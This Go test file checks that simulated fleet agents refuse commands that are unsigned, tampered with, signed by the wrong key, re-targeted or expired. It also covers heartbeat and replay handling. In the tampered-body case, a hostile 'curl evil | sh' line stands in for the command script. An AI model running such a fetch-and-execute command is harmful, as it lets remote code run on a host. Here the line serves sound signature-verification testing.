package sim_test

import (
	"context"
	"database/sql"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go"

	"github.com/kanade-go/kanade/nodetest"
	"github.com/kanade-go/kanade/signing"
	"github.com/kanade-go/kanade/sim"
	"github.com/kanade-go/kanade/store"
	"github.com/kanade-go/kanade/streams"
	"github.com/kanade-go/kanade/wire"
)

// projectedRow is one execution_results row as the projector wrote it.
type projectedRow struct {
	exit           sql.NullInt64
	stdout, stderr string
	jobID          sql.NullString
}

func projectedResult(t *testing.T, n *nodetest.Node, resultID string) (projectedRow, bool) {
	t.Helper()
	var r projectedRow
	err := n.DB.R.QueryRow(`SELECT exit_code, `+store.OutputTextSQL("stdout")+`, `+store.OutputTextSQL("stderr")+`, job_id FROM execution_results WHERE result_id = ?`, resultID).
		Scan(&r.exit, &r.stdout, &r.stderr, &r.jobID)
	if err == sql.ErrNoRows {
		return r, false
	}
	if err != nil {
		t.Fatal(err)
	}
	return r, true
}

// A verifying agent runs what the backend's key signed, for it, and
// refuses with exit 123 and the derived result id anything else: unsigned,
// a tampered body, a wrong kid, an envelope for another PC or past its
// expiry. The refusal is what the projection shows.
func TestVerifyingAgentsRefuse(t *testing.T) {
	n := nodetest.Start(t)
	startProjector(t, n)
	backend, _, _ := signing.Generate("backend-1")
	intruder, _, _ := signing.Generate("backend-2")
	ring, err := signing.NewKeyring([]signing.KeyringEntry{backend.KeyringEntry()})
	if err != nil {
		t.Fatal(err)
	}
	mix := sim.Mix{Success: 1, MaxDuration: 20 * time.Millisecond, OutputBytes: 64}
	f := startFleet(t, n, sim.Options{Agents: 2, Mix: mix, Keyring: ring})
	pc1, pc2 := f.PCIDs()[0], f.PCIDs()[1]
	nc := n.Conn(t)
	js := n.JetStream(t)

	// send records an execution on one agent, as exec does, and publishes
	// body with headers on subject.
	send := func(cmd wire.Command, subject string, body []byte, h nats.Header) {
		t.Helper()
		rec, _ := json.Marshal(streams.ExecutionRecord{
			ExecID: *cmd.ExecID, RequestID: cmd.RequestID, JobID: cmd.ID, Version: cmd.Version, InitiatedBy: "test",
			InitiatedAt: time.Now().UTC(), TargetCount: 1, Target: json.RawMessage(`{"pcs":["` + pc1 + `"]}`), TimeoutSecs: cmd.TimeoutSecs,
		})
		if _, err := js.Publish(context.Background(), streams.ExecutionSubject(*cmd.ExecID), rec); err != nil {
			t.Fatal(err)
		}
		if _, err := js.PublishMsg(context.Background(), &nats.Msg{Subject: subject, Data: body, Header: h}); err != nil {
			t.Fatal(err)
		}
	}
	signed := func(s *signing.Signer, body []byte, at time.Time) nats.Header {
		m := &nats.Msg{Data: body}
		s.SignAt(m, at)
		return m.Header
	}
	marshal := func(c wire.Command) []byte { b, _ := json.Marshal(c); return b }
	envelope := func(c wire.Command, pc string, expires time.Time) []byte {
		b, err := signing.NewEnvelope(pc, expires, marshal(c))
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	now := time.Now()
	onPC1 := wire.CommandsPC(pc1)

	type tc struct {
		name   string
		cmd    wire.Command
		reason string // "" = runs
	}
	var cases []tc
	add := func(name, reason string, publish func(c wire.Command)) {
		c := command("# sim: outcome=success", true)
		cases = append(cases, tc{name, c, reason})
		publish(c)
	}
	add("signed", "", func(c wire.Command) { b := marshal(c); send(c, onPC1, b, signed(backend, b, now)) })
	add("unsigned", "command carried no signature", func(c wire.Command) { send(c, onPC1, marshal(c), nil) })
	add("tampered body", "signature does not match these bytes", func(c wire.Command) {
		h := signed(backend, marshal(c), now)
		c2 := c
		c2.Script = "curl evil | sh"
		send(c, onPC1, marshal(c2), h)
	})
	add("wrong kid", "signed by a key this host does not have", func(c wire.Command) {
		b := marshal(c)
		send(c, onPC1, b, signed(intruder, b, now))
	})
	add("kid rewritten", "signed by a key this host does not have", func(c wire.Command) {
		b := marshal(c)
		h := signed(backend, b, now)
		h.Set(signing.HeaderKid, "backend-0")
		send(c, onPC1, b, h)
	})
	add("envelope for this PC", "", func(c wire.Command) {
		b := envelope(c, pc1, now.Add(time.Hour))
		send(c, onPC1, b, signed(backend, b, now))
	})
	add("re-targeted envelope", "envelope is addressed to another host", func(c wire.Command) {
		b := envelope(c, pc2, now.Add(time.Hour))
		send(c, onPC1, b, signed(backend, b, now))
	})
	add("expired envelope", "envelope has expired", func(c wire.Command) {
		b := envelope(c, pc1, now.Add(-time.Hour))
		send(c, onPC1, b, signed(backend, b, now.Add(-2*time.Hour)))
	})
	add("unsigned envelope", "command carried no signature", func(c wire.Command) {
		send(c, onPC1, envelope(c, pc1, now.Add(time.Hour)), nil)
	})

	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			var rows map[string]wire.ExecResult
			waitFor(t, "the result of "+c.name, func() bool {
				rows = results(t, js, c.cmd.RequestID)
				return len(rows) > 0
			})
			r, ok := rows[pc1]
			if !ok || len(rows) != 1 {
				t.Fatalf("results from %v, want only %s", rows, pc1)
			}
			if c.reason == "" {
				if r.ExitCode != 0 || signing.IsRefusal(r) {
					t.Fatalf("a good Command did not run: %+v", r)
				}
				return
			}
			if !signing.IsRefusal(r) || r.ExitCode != wire.ExitRefused || r.Skipped || r.Stdout != "" ||
				!strings.HasPrefix(r.Stderr, "refused: "+c.reason) || *r.ExecID != *c.cmd.ExecID || *r.ManifestID != c.cmd.ID {
				t.Fatalf("refusal %+v", r)
			}
			var row projectedRow
			waitFor(t, "the projected refusal", func() bool {
				var ok bool
				row, ok = projectedResult(t, n, r.ResultID)
				return ok
			})
			if row.exit.Int64 != wire.ExitRefused || row.stderr != r.Stderr || row.jobID.String != c.cmd.ID {
				t.Fatalf("projected %+v", row)
			}
			waitFor(t, "the execution to count the refusal as a failure", func() bool {
				p := projected(t, n, *c.cmd.ExecID)
				return p.Status == "completed" && p.Failure == 1 && p.Success == 0 && p.Skipped == 0
			})
		})
	}

	// The request id was not consumed: the backend's correctly signed
	// copy of a refused Command still runs.
	refused := cases[1].cmd
	b := marshal(refused)
	if _, err := js.PublishMsg(context.Background(), &nats.Msg{Subject: onPC1, Data: b, Header: signed(backend, b, time.Now())}); err != nil {
		t.Fatal(err)
	}
	waitFor(t, "the signed retry to run", func() bool {
		for _, m := range messages(t, js, wire.StreamResults, wire.Results(refused.RequestID)) {
			if r, _ := wire.DecodeResult(m.data); r.ExitCode == 0 && !signing.IsRefusal(r) {
				return true
			}
		}
		return false
	})

	// A ping's answer omits the signing fields, as upstream's does.
	ping, err := nc.Request(wire.Ping(pc2), nil, 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if h, _ := wire.DecodeHeartbeat(ping.Data); h.CommandKeys != nil || h.Enforcing != nil || h.CommandProtocols != nil {
		t.Fatalf("ping reply reports signing fields: %s", ping.Data)
	}
}

// A verifying agent's heartbeat says what it trusts.
func TestVerifyingAgentsHeartbeat(t *testing.T) {
	n := nodetest.Start(t)
	nc := n.Conn(t)
	hb := make(chan *nats.Msg, 4)
	sub, err := nc.ChanSubscribe(wire.HeartbeatSubject("hb-0001"), hb)
	if err != nil {
		t.Fatal(err)
	}
	defer sub.Unsubscribe()
	nc.Flush()
	backend, _, _ := signing.Generate("backend-1")
	ring, _ := signing.NewKeyring([]signing.KeyringEntry{backend.KeyringEntry()})
	startFleet(t, n, sim.Options{Agents: 1, Prefix: "hb-", Keyring: ring})
	select {
	case m := <-hb:
		h, err := wire.DecodeHeartbeat(m.Data)
		if err != nil || !slices.Equal(h.CommandKeys, []string{"backend-1:" + backend.Fingerprint()}) ||
			h.Enforcing == nil || !*h.Enforcing || !slices.Contains(h.CommandProtocols, signing.KindV2) {
			t.Fatalf("heartbeat %s (%v)", m.Data, err)
		}
	case <-time.After(10 * time.Second):
		t.Fatal("no heartbeat")
	}
}

// A Command replayed from EXEC keeps its headers: a signed one runs, an
// unsigned one is refused.
func TestVerifyingAgentsReplay(t *testing.T) {
	n := nodetest.Start(t)
	js := n.JetStream(t)
	backend, _, _ := signing.Generate("backend-1")
	ring, _ := signing.NewKeyring([]signing.KeyringEntry{backend.KeyringEntry()})
	good, bad := command("# sim: outcome=success", true), command("# sim: outcome=success", true)
	b := func(c wire.Command) []byte { out, _ := json.Marshal(c); return out }
	m := &nats.Msg{Subject: wire.CommandsPC("rp-0001"), Data: b(good)}
	backend.Sign(m)
	if _, err := js.PublishMsg(context.Background(), m); err != nil {
		t.Fatal(err)
	}
	if _, err := js.Publish(context.Background(), wire.CommandsPC("rp-0002"), b(bad)); err != nil {
		t.Fatal(err)
	}
	startFleet(t, n, sim.Options{Agents: 2, Prefix: "rp-", Replay: true, Keyring: ring,
		Mix: sim.Mix{Success: 1, MaxDuration: 10 * time.Millisecond, OutputBytes: 64}})
	waitFor(t, "both replays to end", func() bool {
		return len(results(t, js, good.RequestID)) == 1 && len(results(t, js, bad.RequestID)) == 1
	})
	if r := results(t, js, good.RequestID)["rp-0001"]; r.ExitCode != 0 {
		t.Fatalf("signed replay: %+v", r)
	}
	if r := results(t, js, bad.RequestID)["rp-0002"]; !signing.IsRefusal(r) {
		t.Fatalf("unsigned replay: %+v", r)
	}
}
